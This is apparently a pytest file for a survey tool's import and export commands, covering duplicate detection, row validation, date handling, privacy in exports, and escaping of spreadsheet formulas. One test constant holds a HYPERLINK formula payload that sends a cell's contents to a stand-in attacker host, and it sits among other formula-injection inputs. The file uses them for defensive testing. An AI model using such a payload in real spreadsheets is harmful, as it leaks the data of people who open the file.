"""surveibot import and export: what is a duplicate, what a row must hold, what a file may carry."""

from __future__ import annotations

import csv
import json
import sqlite3
from datetime import datetime
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from bot.cli.main import main
from tests.support.import_rows import COLUMNS, person, write_csv

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'


def surveibot(*args: str | Path) -> int:
    return main([str(a) for a in args])


def stored(database: Path, column: str = "submitted_at") -> list[str]:
    with sqlite3.connect(database) as db:
        return [v for (v,) in db.execute(f"SELECT {column} FROM submissions ORDER BY id")]


def other_database(config_file: Path, name: str) -> Path:
    """A second configuration, the same but for its database ``name``."""
    text = config_file.read_text(encoding="utf-8").replace(
        'path = "surveibot.db"', f'path = "{name}"'
    )
    other = config_file.with_name(f"{name}.toml")
    other.write_text(text, encoding="utf-8")
    return other


def include_personal(config_file: Path) -> None:
    text = config_file.read_text(encoding="utf-8")
    config_file.write_text(
        text.replace("include_personal = false", "include_personal = true"), encoding="utf-8"
    )


# -- 1. a duplicate is the same submission, not the same minute -----------------------------------


def test_people_who_share_a_submit_time_are_all_imported(
    tmp_path: Path, config_file: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # 40 paper forms typed in with the day's minute only: 12 of them share a time with another.
    rows = [person(f"2025-03-{3 + n:02d} 10:00", f"Orang {n}") for n in range(28)]
    rows += [person(f"2025-03-{3 + n:02d} 10:00", f"Tamu {n}", score="3") for n in range(12)]
    source = write_csv(tmp_path / "maret.csv", rows)
    assert surveibot("import", source, "-c", config_file) == 0
    assert "40 isian diimpor, 0 baris identik" in capsys.readouterr().out
    assert surveibot("import", source, "-c", config_file) == 0
    assert "0 isian diimpor, 40 baris identik" in capsys.readouterr().out
    assert len(stored(tmp_path / "surveibot.db")) == 40
    assert surveibot("report", "2025-03", "--json", "-c", config_file) == 0
    assert json.loads(capsys.readouterr().out)["responses"] == 30  # the quota, of 40


def test_two_identical_paper_forms_are_two_people_and_reimport_adds_nothing(
    tmp_path: Path, config_file: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    twins = person("2025-03-05 09:00", "", institution="")  # anonymous, same answers, same minute
    named = person("2025-03-05 09:00", score="3")
    source = write_csv(tmp_path / "kertas.csv", [twins, twins, named])
    assert surveibot("import", source, "-c", config_file) == 0
    assert "3 isian diimpor, 0 baris identik" in capsys.readouterr().out
    assert surveibot("import", source, "-c", config_file) == 0
    assert "0 isian diimpor, 3 baris identik" in capsys.readouterr().out
    # A later file with a third such form adds exactly that one.
    more = write_csv(tmp_path / "lagi.csv", [twins, twins, twins])
    assert surveibot("import", more, "-c", config_file) == 0
    assert "1 isian diimpor, 2 baris identik" in capsys.readouterr().out
    assert len(stored(tmp_path / "surveibot.db")) == 4


# -- 8. import checks what it is given ------------------------------------------------------------


def test_a_row_dated_before_its_period_is_refused(
    tmp_path: Path, config_file: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = [
        person("2025-02-28 16:00", period="2025-03"),  # before March: refused
        person("2025-02-28T18:30:00+00:00", period="2025-03"),  # 1 March 01:30 in Jakarta: fine
        person("2025-07-01 08:00", period="2025-03"),  # answered later: fine
    ]
    source = write_csv(tmp_path / "maret.csv", rows)
    assert surveibot("import", source, "-c", config_file) == 1
    err = capsys.readouterr().err
    assert "baris 2: submitted_at '2025-02-28 16:00' sebelum periode 2025-03" in err
    assert "baris 3" not in err and "baris 4" not in err
    assert "tidak ada yang diimpor: 1 baris bermasalah" in err
    assert not (tmp_path / "surveibot.db").exists()


def test_every_error_of_a_row_is_reported(
    tmp_path: Path, config_file: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    bad = person("kemarin")
    bad[4], bad[5], bad[9], bad[21] = "12", "Robot", "5", "0"
    source = write_csv(tmp_path / "salah.csv", [person("2025-03-04 10:00"), bad])
    assert surveibot("import", source, "-c", config_file) == 1
    err = capsys.readouterr().err
    for problem in (
        "baris 3: submitted_at 'kemarin'",
        "baris 3: age '12'",
        "baris 3: gender 'Robot'",
        "baris 3: U1 '5'",
        "baris 3: P5 '0'",
    ):
        assert problem in err
    assert "tidak ada yang diimpor: 1 baris bermasalah" in err


def test_a_missing_column_is_named_as_missing(
    tmp_path: Path, config_file: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    without_p5 = [c for c in COLUMNS if c != "P5"]
    row = person("2025-03-04 10:00")
    del row[COLUMNS.index("P5")]
    source = write_csv(tmp_path / "tanpa-p5.csv", [row], without_p5)
    assert surveibot("import", source, "-c", config_file) == 1
    assert "baris 1: kolom tidak ada: P5" in capsys.readouterr().err
    # The header is whole, but a row stops after P4.
    short = person("2025-03-04 10:00")[: COLUMNS.index("P5")]
    source = write_csv(tmp_path / "pendek.csv", [person("2025-03-04 10:00"), short])
    assert surveibot("import", source, "-c", config_file) == 1
    err = capsys.readouterr().err
    assert "baris 3: kolom P5 tidak ada pada baris ini" in err
    assert "harus nilai 1 sampai 4" not in err


def test_dates_as_excel_set_to_indonesian_writes_them(
    tmp_path: Path, config_file: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    times = ["14/04/2025 10:12", "14/04/2025 10:12:33", "14/04/2025", "4/4/2025 10.12"]
    rows = [person(when, f"Orang {n}", period="2025-04") for n, when in enumerate(times)]
    assert surveibot("import", write_csv(tmp_path / "excel.csv", rows), "-c", config_file) == 0
    # An .xlsx whose times are real date cells.
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(COLUMNS)
    for n, moment in enumerate([datetime(2025, 4, 15, 8, 30), datetime(2025, 4, 16)]):
        cells: list[object] = [*person("", f"Sel {n}", period="2025-04")]
        cells[2] = moment
        sheet.append(cells)
    book.save(tmp_path / "excel.xlsx")
    assert surveibot("import", tmp_path / "excel.xlsx", "-c", config_file) == 0
    assert "2 isian diimpor" in capsys.readouterr().out
    # Read as day/month/year in the survey's zone (Asia/Jakarta, UTC+7).
    assert [t[:19] for t in stored(tmp_path / "surveibot.db")] == [
        "2025-04-14T03:12:00",
        "2025-04-14T03:12:33",
        "2025-04-13T17:00:00",
        "2025-04-04T03:12:00",
        "2025-04-15T01:30:00",
        "2025-04-15T17:00:00",
    ]


def test_the_reports_own_workbook_is_refused_with_what_to_use(
    tmp_path: Path, config_file: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = [person(f"2025-03-{3 + n:02d} 10:00", f"Orang {n}") for n in range(3)]
    assert surveibot("import", write_csv(tmp_path / "maret.csv", rows), "-c", config_file) == 0
    out = tmp_path / "laporan"
    assert surveibot("report", "2025-03", "--out", out, "-c", config_file) == 0
    [workbook] = out.glob("*.xlsx")
    capsys.readouterr()
    assert surveibot("import", workbook, "-c", config_file) == 1
    captured = capsys.readouterr()
    assert captured.out == ""
    [line] = captured.err.splitlines()
    assert "buku kerja laporan" in line and "export YYYY-MM --format xlsx" in line
    assert len(stored(tmp_path / "surveibot.db")) == 3


# -- 10. export respects privacy ------------------------------------------------------------------


def test_export_leaves_out_names_unless_asked(
    tmp_path: Path, config_file: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = [person("2025-03-04 10:00", "Dewi Sartika", institution="PT Sehat")]
    assert surveibot("import", write_csv(tmp_path / "maret.csv", rows), "-c", config_file) == 0
    capsys.readouterr()

    def exported(*flags: str) -> tuple[str, list[str]]:
        out = tmp_path / f"export-{len(list(tmp_path.glob('export-*')))}.csv"
        assert surveibot("export", "2025-03", "--out", out, *flags, "-c", config_file) == 0
        with out.open(encoding="utf-8-sig") as fh:
            return capsys.readouterr().out, list(csv.reader(fh))[1]

    said, row = exported()
    assert "tanpa nama dan instansi (tambahkan --personal" in said
    assert (row[3], row[8]) == ("", "")
    assert "Dewi" not in (tmp_path / "export-0.csv").read_text(encoding="utf-8-sig")
    said, row = exported("--personal")
    assert "dengan nama dan instansi (--personal)" in said
    assert (row[3], row[8]) == ("Dewi Sartika", "PT Sehat")
    include_personal(config_file)
    said, row = exported()
    assert "dengan nama dan instansi ([reports] include_personal = true)" in said
    assert (row[3], row[8]) == ("Dewi Sartika", "PT Sehat")
    # A file without names imports elsewhere, with names and institutions empty.
    fresh = other_database(config_file, "fresh.db")
    assert surveibot("import", tmp_path / "export-0.csv", "-c", fresh) == 0
    assert "1 isian diimpor" in capsys.readouterr().out
    [identity] = stored(tmp_path / "fresh.db", "identity")
    assert (json.loads(identity)["name"], json.loads(identity)["institution"]) == ("", "")


# -- 5. no formulas from respondents --------------------------------------------------------------


def test_csv_export_quotes_formulas_and_import_takes_the_quote_off(
    tmp_path: Path, config_file: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    row = person("2025-03-04 10:00", "-1+2", institution="@SUM(A1)", suggestion=HYPERLINK)
    # A quote the respondent wrote before a formula character survives the round trip too.
    plain = person("2025-03-04 11:00", "+62 812", institution="''=quoted", suggestion="it's")
    assert surveibot("import", write_csv(tmp_path / "in.csv", [row, plain]), "-c", config_file) == 0
    include_personal(config_file)
    out = tmp_path / "out.csv"
    assert surveibot("export", "2025-03", "--out", out, "-c", config_file) == 0
    with out.open(encoding="utf-8-sig") as fh:
        written = list(csv.reader(fh))[1:]
    assert (written[0][3], written[0][8], written[0][-1]) == ("'-1+2", "'@SUM(A1)", "'" + HYPERLINK)
    assert (written[1][3], written[1][8], written[1][-1]) == ("'+62 812", "''=quoted", "it's")
    # Back in, the values are the respondents' own again, and match what they came from.
    capsys.readouterr()
    assert surveibot("import", out, "-c", config_file) == 0
    assert "0 isian diimpor, 2 baris identik" in capsys.readouterr().out
    fresh = other_database(config_file, "fresh.db")
    assert surveibot("import", out, "-c", fresh) == 0
    people = [json.loads(i) for i in stored(tmp_path / "fresh.db", "identity")]
    assert [(p["name"], p["institution"]) for p in people] == [
        ("-1+2", "@SUM(A1)"),
        ("+62 812", "'=quoted"),
    ]
    assert stored(tmp_path / "fresh.db", "suggestion") == [HYPERLINK, "it's"]


def test_xlsx_export_writes_respondent_text_as_text(
    tmp_path: Path, config_file: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    row = person("2025-03-04 10:00", "-1+2", institution="@SUM(A1)", suggestion=HYPERLINK)
    quoted = person("2025-03-04 11:00", "''=kutip")  # the CSV's way of saying "'=kutip"
    source = write_csv(tmp_path / "in.csv", [row, quoted])
    assert surveibot("import", source, "-c", config_file) == 0
    include_personal(config_file)
    out = tmp_path / "out.xlsx"
    assert surveibot("export", "2025-03", "--format", "xlsx", "--out", out, "-c", config_file) == 0
    sheet = load_workbook(out).active
    assert sheet is not None
    cells, other = sheet.iter_rows(min_row=2)
    assert (other[3].value, other[3].data_type) == ("'=kutip", "s")
    name, institution, suggestion = cells[3], cells[8], cells[-1]
    assert [c.value for c in (name, institution, suggestion)] == ["-1+2", "@SUM(A1)", HYPERLINK]
    assert {c.data_type for c in (name, institution, suggestion)} == {"s"}
    fresh = other_database(config_file, "fresh.db")
    capsys.readouterr()
    assert surveibot("import", out, "-c", fresh) == 0
    assert stored(tmp_path / "fresh.db", "suggestion") == [HYPERLINK, None]
    names = [json.loads(i)["name"] for i in stored(tmp_path / "fresh.db", "identity")]
    assert names == ["-1+2", "'=kutip"]  # an XLSX cell is taken as it is
